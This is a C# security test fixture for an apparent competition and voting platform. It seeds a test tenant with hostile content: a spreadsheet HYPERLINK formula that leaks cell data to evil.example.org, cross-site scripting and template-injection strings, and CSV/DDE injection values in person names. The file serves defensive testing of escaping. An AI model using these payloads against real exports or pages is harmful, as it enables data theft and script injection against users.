using System.Net.Http.Json;
using System.Text.Json.Nodes;
using Podium.Tests.Harness;
using Podium.Tests.Submissions;

namespace Podium.Tests.Security;

/// <summary>A tenant in which everything that has a name is called by something that wants to be run, by a spreadsheet or a browser.</summary>
internal sealed class HostileContent
{
    public const string Formula = "=HYPERLINK(\"http://evil.example.org?\"&A1,\"x\")";

    public const string Script = "<script>alert(1)</script><img src=x onerror=\"alert(1)\">'\"/>{{1+1}}";

    public required TestTenant Tenant { get; init; }

    public required TestPerson Boss { get; init; }

    public required Guid Competition { get; init; }

    public required Guid Voting { get; init; }

    public string Slug => "hostile-cup";

    public static async Task<HostileContent> MakeAsync(PodiumApp app)
    {
        var tenant = await TestTenant.CreateAsync(app, new { siteUrl = "https://contest.example.org" });
        var boss = await tenant.AdministratorAsync();
        var person = await tenant.PersonAsync(firstName: "+1+cmd|' /C calc'!A0", lastName: "@SUM(A1)");
        var start = app.Clock.GetUtcNow();
        var cup = await boss.Http.PostAsJsonAsync("/api/competitions", new
        {
            name = Script,
            slug = "hostile-cup",
            description = Script,
            type = "team",
            minTeamSize = 1,
            maxTeamSize = 5,
            registrationStart = start.AddDays(-2),
            registrationEnd = start.AddDays(1),
            competitionStart = start.AddDays(2),
            competitionEnd = start.AddDays(9),
            configuration = new { openBoard = true, submissions = new { @for = "competition", kinds = new[] { "pdf" } } },
        }).OkAsync(201);
        var path = $"/api/competitions/{cup["id"]}";
        await boss.Http.PostAsJsonAsync($"{path}/moves", new { to = "published" }).OkAsync();
        foreach (var (number, name) in new[] { Formula, Script, "-2+3" }.Index())
        {
            var captain = number == 0 ? person : await tenant.PersonAsync();
            var team = (await captain.Http.PostAsJsonAsync($"{path}/teams", new { name }).OkAsync(201))["id"]!;
            await captain.Http.PostAsJsonAsync($"{path}/registrations", new { teamId = (string)team! }).OkAsync(201);
        }
        var voting = await boss.Http.PostAsJsonAsync("/api/voting-sessions", new { title = Script, description = Script, visibility = "live", voters = "anyone" }).OkAsync(201);
        await boss.Http.PutAsJsonAsync($"/api/voting-sessions/{voting["id"]}/options", new { options = new[] { new { id = Guid.CreateVersion7(), title = Script, genre = Script }, new { id = Guid.CreateVersion7(), title = Formula, genre = Formula } } }).OkAsync();
        await boss.Http.PostAsJsonAsync($"/api/voting-sessions/{voting["id"]}/phase", new { phase = "open" }).OkAsync();
        return new HostileContent { Tenant = tenant, Boss = boss, Competition = (Guid)cup["id"]!, Voting = (Guid)voting["id"]! };
    }
}
